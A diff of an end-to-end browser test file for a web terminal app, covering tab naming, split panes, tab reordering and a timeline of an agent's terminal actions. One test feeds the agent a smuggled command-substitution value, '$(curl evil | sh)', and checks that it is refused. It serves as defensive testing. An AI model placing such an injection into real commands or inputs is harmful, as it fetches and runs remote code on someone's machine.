@@ -1,9 +1,11 @@
 import { mkdirSync } from "node:fs";
 import { join } from "node:path";
-import { expect, describe, test } from "vitest";
+import { expect, describe, onTestFinished, test } from "vitest";
+import { agentAt } from "../support/agent.ts";
 import { PROMPT, startBrowser } from "../support/browser.ts";
 import type { Visitor } from "../support/browser.ts";
 import type { SpawnRequest } from "../../protocol/pty.ts";
+import { faultsInBothLooks } from "../support/faults.ts";
 import { PageRun } from "../support/page.ts";
 import { PATIENCE_MS } from "../support/waiting.ts";
 
@@ -71,7 +73,7 @@ describe.skipIf(!browser)("the tab bar", () => {
     expect([...ana.faults, ...ben.faults]).toEqual([]);
   });
 
-  test("W10 a title is everybody's: on pages that did not open the tab, on later ones, after a crash", async () => {
+  test("W10 GR4 a title and a name are everybody's: on pages that did not open the tab, on later ones, after a crash", async () => {
     const [ana, ben] = [await run.visit(), await run.visit()];
     await ana.open();
     await ana.open();
@@ -84,20 +86,269 @@ describe.skipIf(!browser)("the tab bar", () => {
       expect.poll(() => called(visitor).innerText(), poll).toBe(name);
     await ana.type("printf '\\033]2;the \\342\\200\\256second\\007'\n");
     for (const visitor of [ana, ben]) await isCalled(visitor, "the second");
+    // What a person calls it stands before that, until they take it back.
+    await ana.press("Alt+1", "Alt+Shift+N");
+    await ana.page.getByRole("dialog", { name: "Name this terminal" }).waitFor();
+    await ana.page.keyboard.insertText("web server");
+    await ana.press("Enter", "Alt+2");
+    const named = (visitor: Visitor) =>
+      expect
+        .poll(() => visitor.page.locator(".tab-name").first().innerText(), poll)
+        .toBe("web server");
+    for (const visitor of [ana, ben]) await named(visitor);
     await isCalled(await run.visit(), "the second");
     const { stdout } = await run.place.run(["ls", "--json"]);
     expect(JSON.parse(stdout)).toContainEqual(
       expect.objectContaining({ id: second, title: "the second", number: 2 }),
     );
+    expect((await run.place.run(["ls"])).stdout).toMatch(/NAME.*\n.* web server /);
+    const bad = await run.place.run(["rename", "1", "a\nb"]);
+    expect([bad.code, bad.stderr]).toEqual([2, expect.stringContaining("one line of text")]);
+    expect((await run.place.run(["rename", "2", "second by verb"])).code).toBe(0);
+    for (const visitor of [ana, ben]) await isCalled(visitor, "second by verb");
+    expect((await run.place.run(["rename", "2"])).code).toBe(0);
+    for (const visitor of [ana, ben]) await isCalled(visitor, "the second");
     await run.product.kill();
     await run.start();
-    await isCalled(await run.visit(), "the second");
+    const cy = await run.visit();
+    await isCalled(cy, "the second");
+    await named(cy);
     // As an editor does, and gives back.
     await ana.status("Live");
     await ana.type("printf '\\033[22;0t\\033]0;vim\\007'; read -r x; printf '\\033[23;0t'\n");
     for (const visitor of [ana, ben]) await isCalled(visitor, "vim");
     await ana.press("Enter");
     for (const visitor of [ana, ben]) await isCalled(visitor, "the second");
+  });
+
+  test("GR1 GR2 GR3 panes are split, gone to, dragged and taken out, by key and by hand, and stay over a reload", async () => {
+    const ana = await run.visit();
+    const { page } = ana;
+    await page.getByRole("button", { name: "Skip" }).click();
+    await ana.open();
+    await ana.type("echo one-$((6*7))\n");
+    await ana.shows("one-42");
+    const heads = page.locator(".panel[data-shown=true] .pane-head");
+    const boxes = () =>
+      page.locator(".panel[data-shown=true]").evaluateAll((panels) =>
+        panels.map((panel) => {
+          const { x, y, width, height } = panel.getBoundingClientRect();
+          return [x, y, width, height].map(Math.round);
+        }),
+      );
+    expect(await heads.count()).toBe(0);
+    await ana.press("Alt+s");
+    await expect.poll(() => heads.count(), poll).toBe(2);
+    await ana.shows(PROMPT);
+    await ana.type("seq 1 500\n");
+    await ana.shows(/\n500\n/);
+    await ana.press("Alt+Shift+S");
+    await expect.poll(() => heads.count(), poll).toBe(3);
+    await ana.shows(PROMPT);
+    const [one = [], two = [], three = []] = await boxes();
+    expect([one[0], two[0], three[0]]).toEqual([0, 550, 550]);
+    expect([one[3], (two[3] ?? 0) + (three[3] ?? 0)]).toEqual([one[3], one[3]]);
+
+    // Each program has the size of its pane, and keys go to the pane that was gone to.
+    // A pane has several sizes while it is made or dragged; the program follows to the last.
+    const isKnown = async () => {
+      await ana.type("clear; stty size\n");
+      const { rows, cols } = await ana.size();
+      return (await ana.lines()).includes(`${rows} ${cols}`);
+    };
+    const known = async () => {
+      await expect.poll(isKnown, { ...poll, interval: 300 }).toBe(true);
+      return await ana.size();
+    };
+    const small = await known();
+    await ana.press("Alt+Shift+ArrowLeft");
+    await ana.shows("one-42");
+    const tall = await known();
+    expect(tall.rows).toBeGreaterThan(small.rows * 1.5);
+    const current = page.locator(".tab[aria-selected=true] .tab-number");
+    await page.locator(".panel[data-shown=true] .xterm").last().click();
+    await expect.poll(() => current.innerText(), poll).toBe("3");
+    await ana.press("Alt+Shift+ArrowUp");
+    await expect.poll(() => current.innerText(), poll).toBe("2");
+    // What is typed into lay lower while the pane was taller; the focus on it moves nothing.
+    const typed = page.locator(".panel[data-active=true] textarea");
+    await typed.blur();
+    await typed.focus();
+    const host = page.locator(".panel[data-active=true] .host");
+    expect(await host.evaluate(({ scrollTop }) => scrollTop)).toBe(0);
+    // The menu of a pane opens at its own button.
+    const more = page.locator(".panel[data-active=true] .more");
+    await more.click();
+    const menu = page.getByRole("menu");
+    const right = (box: { x: number; width: number } | null) =>
+      box && Math.round(box.x + box.width);
+    expect((await menu.boundingBox())?.y).toBe(8);
+    await ana.press("Escape", "Alt+Shift+ArrowLeft");
+    await more.click();
+    expect(right(await menu.boundingBox())).toBe(right(await more.boundingBox()));
+    await ana.press("Escape", "Alt+Shift+=");
+    expect((await boxes())[0]?.[2]).toBe(605);
+
+    // By hand: the line between them, and by its keys.
+    const line = page.getByRole("separator", { name: "Width of the panes" });
+    await line.focus();
+    await ana.press("ArrowLeft");
+    expect((await boxes())[0]?.[2]).toBe(550);
+    const grip = await line.boundingBox();
+    if (!grip) throw new Error("no line");
+    await page.mouse.move(grip.x + 4, 300);
+    await page.mouse.down();
+    await page.mouse.move(grip.x + 114, 300, { steps: 4 });
+    await page.mouse.up();
+    expect((await boxes())[0]?.[2]).toBeGreaterThan(650);
+    await ana.press("Alt+1");
+    await expect.poll(() => ana.size().then(({ cols }) => cols), poll).toBeGreaterThan(tall.cols);
+    await known();
+    expect(await faultsInBothLooks(ana)).toEqual([]);
+
+    // Kept, on this browser.
+    const before = await boxes();
+    await page.reload();
+    await expect.poll(() => heads.count(), poll).toBe(3);
+    await expect.poll(boxes, poll).toEqual(before);
+    await ana.status("Live");
+    await ana.press("Alt+Shift+X");
+    await expect.poll(() => heads.count(), poll).toBe(2);
+    expect(await current.innerText()).toBe("2");
+    // A tab that is dragged to an edge stands there.
+    const [first = ""] = await ana.terminals();
+    const stage = page.locator(".stage");
+    const size = await stage.boundingBox();
+    await page
+      .locator(`#tab-${first}`)
+      .dragTo(stage, { targetPosition: { x: (size?.width ?? 0) / 2, y: (size?.height ?? 0) - 8 } });
+    await expect.poll(() => heads.count(), poll).toBe(3);
+    expect(await current.innerText()).toBe("1");
+    expect((await boxes())[0]?.[1]).toBeGreaterThan(300);
+
+    // One at a time where there is no room for more.
+    await page.setViewportSize({ width: 390, height: 844 });
+    await expect.poll(() => page.locator(".panel[data-shown=true]").count(), poll).toBe(1);
+    const switcher = page.locator(".panel[data-shown=true] .pane-switcher button");
+    expect(await switcher.allInnerTexts()).toEqual(["work #2", "work #3", "work #1"]);
+    await switcher.first().click();
+    await expect.poll(() => current.innerText(), poll).toBe("2");
+    expect(await faultsInBothLooks(ana)).toEqual([]);
+    // What ends falls out.
+    await page.setViewportSize({ width: 1100, height: 700 });
+    for (const id of (await ana.terminals()).slice(1))
+      await run.product.http(`/pty/${id}`, { method: "DELETE" });
+    await page.locator(".tab.ended").nth(1).waitFor();
+    await ana.press("Alt+Shift+W");
+    await expect.poll(() => heads.count(), poll).toBe(0);
+    expect(await ana.terminals()).toEqual([first]);
+    expect(ana.faults).toEqual([]);
+  });
+
+  test("GR4 GR5 tabs show what runs, are moved, listed and filtered; agents' stand apart", async () => {
+    const ana = await run.visit();
+    const { page } = ana;
+    await ana.open();
+    await ana.open();
+    await ana.open();
+    const [first, second, third] = await ana.terminals();
+    const label = page.locator(`#tab-${third} .tab-name`);
+    await ana.type("cd / && sleep 30\n");
+    await expect.poll(() => label.innerText(), poll).toBe("sleep");
+    expect(await page.locator(`#tab-${third} .tab-hint`).innerText()).toBe("/");
+    await ana.press("Control+c");
+    await expect.poll(() => label.innerText(), poll).toBe("/");
+
+    await ana.press("Alt+Shift+PageUp");
+    expect(await ana.terminals()).toEqual([first, third, second]);
+    await page.locator(`#tab-${second}`).dragTo(page.locator(`#tab-${first}`), {
+      targetPosition: { x: 8, y: 18 },
+    });
+    await expect.poll(() => ana.terminals(), poll).toEqual([second, first, third]);
+    await page.reload();
+    await expect.poll(() => ana.terminals(), poll).toEqual([second, first, third]);
+    // What comes stands behind.
+    const fourth = await spawn({ command: ["sh", "-c", "sleep 60"], cwd: "/usr" });
+    await expect.poll(() => ana.terminals(), poll).toEqual([second, first, third, fourth]);
+
+    await ana.press("Alt+Shift+T");
+    const list = page.getByRole("listbox", { name: "Tabs" });
+    await expect.poll(() => list.getByRole("option").count(), poll).toBe(4);
+    expect(await list.locator("[aria-selected=true]").innerText()).toContain("current");
+    await page.keyboard.insertText("usr sl");
+    await expect.poll(() => list.getByRole("option").count(), poll).toBe(1);
+    await ana.press("Shift+Enter");
+    await page.locator(`#tab-${fourth}[aria-selected=true]`).waitFor();
+    await expect.poll(() => page.locator(".pane-head").count(), poll).toBe(2);
+    await ana.press("Alt+Shift+X");
+    expect(ana.faults).toEqual([]);
+  });
+
+  test("GR6 GR7 agents' terminals and deeds are in one view, live, with filters; a view link sees no deeds", async () => {
+    const { endpoints, tokens, links } = run.product.ready;
+    const ana = await run.visit(undefined, { viewport: { width: 1280, height: 800 } });
+    const { page } = ana;
+    await page.getByRole("button", { name: "Skip" }).click();
+    await ana.open();
+    const agent = await agentAt(endpoints.mcp, tokens.agent);
+    onTestFinished(() => agent.close());
+    const cwd = run.place.folder;
+    const start = async (name: string) =>
+      await agent.call("spawn_background_terminal", {
+        cwd,
+        command: ["sh", "-c", `echo ${name}; sleep 60`],
+      });
+    await start("server");
+    // Apart from people's, and folded away but for how many there are.
+    const theirs = page.getByRole("tablist", { name: "Agents’ terminals" }).getByRole("tab");
+    await expect.poll(() => theirs.count(), poll).toBe(1);
+    const fold = page.getByRole("button", { name: /^Agents 1/ });
+    await fold.click();
+    await expect.poll(() => theirs.count(), poll).toBe(0);
+    await fold.click();
+
+    await ana.press("Alt+Shift+A");
+    const rows = page.locator(".agent-terminals li");
+    await expect.poll(() => rows.count(), poll).toBe(1);
+    expect(await rows.first().innerText()).toMatch(
+      /sh -c .*server.* · running · \d+ s · isolation none/s,
+    );
+    const deeds = page.getByRole("log", { name: "Timeline" }).getByRole("listitem");
+    const deed = (text: string) => deeds.filter({ hasText: text });
+    await deed("spawn_background_terminal").waitFor();
+    // Live.
+    await agent.call("list_terminals", {});
+    await deed("list_terminals").waitFor();
+    await expect(start("$(curl evil | sh)")).rejects.toThrow();
+    await deed("evil").first().waitFor();
+    await page.getByRole("combobox", { name: "Outcome" }).selectOption("refused");
+    await expect.poll(() => deed("list_terminals").count(), poll).toBe(0);
+    expect(await deed("evil").count()).toBeGreaterThan(0);
+    await page.getByRole("combobox", { name: "Outcome" }).selectOption("");
+    await page.getByRole("combobox", { name: "Kind" }).selectOption("terminal");
+    await deed("created").first().waitFor();
+    await expect.poll(() => deed("list_terminals").count(), poll).toBe(0);
+    await page.getByRole("button", { name: "All", exact: true }).click();
+
+    const vic = await run.visit(links.view);
+    await vic.status("Live");
+    await vic.press("Alt+Shift+A");
+    await vic.page.getByText("sees agents’ terminals, not what they did").waitFor();
+    expect(await vic.page.locator(".agent-terminals button").allInnerTexts()).toEqual(["Show"]);
+    expect(vic.sent.filter((text) => text.includes("audit:"))).toEqual([]);
+
+    // Over a reload; kept as the user's, then killed.
+    await page.reload();
+    await expect.poll(() => rows.count(), poll).toBe(1);
+    await page.getByRole("button", { name: /^Keep / }).click();
+    await expect.poll(() => rows.first().innerText(), poll).toContain("handed over");
+    await expect.poll(() => theirs.count(), poll).toBe(0);
+    await page.getByRole("button", { name: /^Kill / }).click();
+    await page.getByRole("button", { name: "Close terminal" }).click();
+    await expect.poll(() => rows.count(), poll).toBe(0);
+    await ana.press("Alt+W");
+    await expect.poll(() => page.locator(".agents").count(), poll).toBe(0);
+    expect([...ana.faults, ...vic.faults]).toEqual([]);
   });
 
   test("W8 another's larger screen is whole, and uses the width and height that there are", async () => {
@@ -164,6 +415,7 @@ describe.skipIf(!browser)("the tab bar", () => {
     await left.waitFor();
     await right.waitFor({ state: "detached" });
     expect(await isInView()).toBe(true);
+    expect(await page.locator(".tab-close:visible").count()).toBe(1);
     await left.click();
     await right.waitFor();
     await page.setViewportSize({ width: 560, height: 600 });
